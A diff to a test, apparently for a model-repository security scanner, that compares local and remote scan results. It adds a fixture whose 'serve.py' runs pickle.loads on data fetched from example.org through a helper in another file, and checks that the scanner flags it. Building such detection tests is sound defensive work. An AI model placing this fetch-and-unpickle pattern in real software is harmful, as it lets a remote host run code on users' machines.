@@ -34,14 +34,22 @@ test('a repository is reported as its copy is', { timeout: 120_000 }, async () =
       cpSync(join(FIXTURES, name, file), join(folder, 'copy', name, file), { recursive: true });
   }
   writeFileSync(join(folder, 'copy/empty.bin'), '');
+  // A name of another file: what is loaded comes from there.
+  const serve = 'from .wire import receive\nimport pickle\n\npickle.loads(receive())\n';
+  const wire = "import requests\n\ndef receive():\n    return requests.get('https://example.org/x').content\n";
+  for (const [name, text] of Object.entries({ '__init__.py': '', 'serve.py': serve, 'wire.py': wire }))
+    writeFileSync(join(folder, 'copy/honest', name), text);
   const { commit } = cli.double.add('org/model', filesBelow(join(folder, 'copy')));
   const options = ['--format', 'json', '--hash', 'all', '--thorough', '--allow-private'];
   const local = await cli.runRemote(folder, ['artifact', 'copy', ...options]);
   const remote = await cli.runRemote(folder, ['artifact', 'hf://org/model', ...options]);
   expect(remote.stderr).toBe('');
   expect(remote.code).toBe(local.code);
+  expect(json(local.stdout).findings.map(({ artifact }) => artifact)).toContain('copy/honest/serve.py');
   const at = `hf://org/model@${commit}`;
-  expect(comparable(remote.stdout, at)).toEqual(comparable(local.stdout, 'copy'));
+  // Other files are named by full paths.
+  const shown = local.stdout.replaceAll(join(folder, 'copy'), 'copy');
+  expect(comparable(remote.stdout, at)).toEqual(comparable(shown, 'copy'));
 });
 
 const ALLOW = '--allow-private';
